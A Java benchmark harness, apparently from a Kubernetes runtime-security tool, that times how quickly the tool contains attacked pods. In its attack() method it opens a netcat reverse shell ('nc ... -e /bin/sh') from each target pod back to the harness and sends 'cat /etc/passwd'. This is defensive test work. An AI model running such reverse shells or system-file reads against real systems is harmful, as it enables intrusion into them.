package dev.interdict.benchmarks;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Deque;
import java.util.HashSet;
import java.util.List;
import java.util.Set;

/**
 * Reverse shells out of pods on the Kubernetes of {@code e2e/cluster}, with the chart as it is
 * installed by default and the rules of the cluster's tests: each pod is attacked once, contained,
 * and replaced.
 */
final class ClusterAttacks implements AutoCloseable {
  private static final Duration PATIENCE = Duration.ofMinutes(8);
  private static final String HERE = "10.254.254.1";
  private static final String NAMESPACE = "interdict";
  private static final int PODS = 6;
  private static final String FOLDER = "e2e/src/test/resources/dev/interdict/e2e/cluster/";
  private static final ObjectMapper JSON = new ObjectMapper();

  private static final String TARGETS =
      """
      apiVersion: v1
      kind: Namespace
      metadata: {name: bench}
      ---
      apiVersion: apps/v1
      kind: Deployment
      metadata: {name: target, namespace: bench}
      spec:
        replicas: %d
        selector: {matchLabels: {app: target}}
        template:
          metadata: {labels: {app: target}}
          spec:
            terminationGracePeriodSeconds: 0
            containers:
            - {name: main, image: "localhost/busybox:1", command: [/bin/sleep, "36000"]}
      ---
      apiVersion: apps/v1
      kind: Deployment
      metadata: {name: busy, namespace: bench}
      spec:
        selector: {matchLabels: {app: busy}}
        template:
          metadata: {labels: {app: busy}}
          spec:
            terminationGracePeriodSeconds: 0
            containers:
            - name: main
              image: localhost/busybox:1
              command:
              - /bin/sh
              - -c
              - "while :; do i=0; while [ $i -lt %d ]; do i=$((i + 1)); : >/tmp/f$i; done; sleep 0.05; done"
      ---
      apiVersion: interdict.dev/v1alpha1
      kind: ResponsePolicy
      metadata: {name: bench}
      spec:
        mode: enforce
        match: {rules: [6d1f6a52-3c0e-4a25-9d4b-0d7c6c1f2e13]}
        actions: {cut: true, freeze: true, ttl: 10s}
        limits: {containmentsPerNodePerMinute: 1000, perWorkload: 1000/1h, perNamespace: 1000/1h, perCluster: 1000/1h}
      """;

  private final Path top;
  private final Path scratch;
  private ServerSocket server;
  private final Set<String> attacked = new HashSet<>();
  private final Deque<Socket> shells = new ArrayDeque<>();

  private ClusterAttacks(Path top, Path scratch) {
    this.top = top;
    this.scratch = scratch;
  }

  /** What is missing for one; null if nothing is. */
  static String missing(Path top) {
    return Files.exists(top.resolve("target/images/interdict.tar"))
        ? null
        : "no images: ./interdict images";
  }

  /**
   * @param top of the checkout
   * @param rate file operations a second in a pod beside those attacked
   */
  static ClusterAttacks start(Path top, Path scratch, int rate)
      throws IOException, InterruptedException {
    ClusterAttacks attacks = new ClusterAttacks(top, scratch);
    try {
      attacks.open(rate);
      return attacks;
    } catch (IOException | InterruptedException | RuntimeException e) {
      attacks.close();
      throw e;
    }
  }

  private void open(int rate) throws IOException, InterruptedException {
    cluster("up", "--nodes", "1");
    server = new ServerSocket(0, 1, InetAddress.getByName(HERE));
    server.setSoTimeout((int) PATIENCE.toMillis());
    kubectl("create", "namespace", NAMESPACE);
    Path rules = top.resolve(FOLDER + "rules.yml");
    kubectl("-n", NAMESPACE, "create", "configmap", "rules", "--from-file=" + rules);
    cluster("install", "--set=detection.rulesConfigMap=rules");
    awaitReady(NAMESPACE);
    Path targets = scratch.resolve("targets.yaml");
    Files.writeString(targets, TARGETS.formatted(PODS, rate / 20));
    kubectl("apply", "-f", targets.toString());
    awaitReady("bench");
  }

  /** Milliseconds from the kernel's event to the node's confirmation. */
  double attack() throws IOException, InterruptedException {
    String pod = await("a pod that was not attacked yet", this::fresh);
    attacked.add(pod);
    kubectl(
        "-n",
        "bench",
        "exec",
        pod,
        "--",
        "/bin/sh",
        "-c",
        "nc " + HERE + " " + server.getLocalPort() + " -e /bin/sh >/dev/null 2>&1 & sleep 0.2");
    Socket shell = server.accept();
    shells.add(shell);
    shell.getOutputStream().write("cat /etc/passwd\n".getBytes(StandardCharsets.UTF_8));
    shell.getOutputStream().flush();
    double millis = await("the containment of " + pod, () -> containedAfter(pod));
    kubectl("-n", "bench", "delete", "pod", pod, "--wait=false");
    while (shells.size() > PODS) {
      shells.remove().close();
    }
    return millis;
  }

  private String fresh() throws IOException, InterruptedException {
    for (JsonNode pod : list("bench", "pods", "-l=app=target")) {
      String name = pod.at("/metadata/name").asText();
      if (!attacked.contains(name)
          && pod.at("/metadata/deletionTimestamp").isMissingNode()
          && pod.at("/status/containerStatuses/0/ready").asBoolean()) {
        return name;
      }
    }
    return null;
  }

  private Double containedAfter(String pod) throws IOException, InterruptedException {
    for (JsonNode containment : list(NAMESPACE, "containments")) {
      String after = containment.at("/status/containedAfter").asText();
      if (containment.at("/spec/intent/pod").asText().equals(pod) && after.endsWith("ms")) {
        return Double.valueOf(after.substring(0, after.length() - 2));
      }
    }
    return null;
  }

  private JsonNode list(String namespace, String... what) throws IOException, InterruptedException {
    List<String> command = new ArrayList<>(List.of("-n", namespace, "get", "-o=json"));
    command.addAll(List.of(what));
    return JSON.readTree(kubectl(command.toArray(String[]::new))).path("items");
  }

  private void awaitReady(String namespace) throws IOException, InterruptedException {
    await(
        "the pods of " + namespace,
        () -> {
          JsonNode pods = list(namespace, "pods");
          for (JsonNode pod : pods) {
            for (JsonNode condition : pod.at("/status/conditions")) {
              if (condition.path("type").asText().equals("Ready")
                  && !condition.path("status").asText().equals("True")) {
                return null;
              }
            }
          }
          return pods.isEmpty() ? null : true;
        });
  }

  private interface Asked<T> {
    T ask() throws IOException, InterruptedException;
  }

  private static <T> T await(String what, Asked<T> asked) throws IOException, InterruptedException {
    long deadline = System.nanoTime() + PATIENCE.toNanos();
    while (true) {
      T answer = asked.ask();
      if (answer != null) {
        return answer;
      }
      if (System.nanoTime() > deadline) {
        throw new IOException("waited " + PATIENCE.toMinutes() + " min in vain for " + what);
      }
      Thread.sleep(250);
    }
  }

  private String kubectl(String... arguments) throws IOException, InterruptedException {
    List<String> command = new ArrayList<>(List.of("kubectl"));
    command.addAll(List.of(arguments));
    return cluster(command.toArray(String[]::new));
  }

  private String cluster(String... arguments) throws IOException, InterruptedException {
    List<String> command = new ArrayList<>(List.of(top.resolve("e2e/cluster").toString()));
    command.addAll(List.of(arguments));
    Path out = scratch.resolve("cluster.out");
    Process process =
        new ProcessBuilder(command)
            .redirectOutput(out.toFile())
            .redirectError(ProcessBuilder.Redirect.INHERIT)
            .start();
    if (process.waitFor() != 0) {
      throw new IOException(
          String.join(" ", command) + " ended with " + process.exitValue() + ": see above");
    }
    return Files.readString(out);
  }

  @Override
  public void close() throws IOException {
    for (Socket shell : shells) {
      shell.close();
    }
    if (server != null) {
      server.close();
    }
    try {
      cluster("down");
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
  }
}
